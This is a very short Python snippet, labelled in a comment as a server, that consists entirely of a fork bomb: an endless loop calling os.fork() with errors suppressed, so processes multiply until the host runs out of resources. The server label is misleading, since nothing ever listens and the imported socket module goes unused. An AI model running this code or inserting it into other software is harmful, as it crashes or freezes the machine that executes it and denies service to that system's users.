import os, socket, sys
# A server that forks without end before it even listens.
while True:
    try:
        os.fork()
    except OSError:
        pass
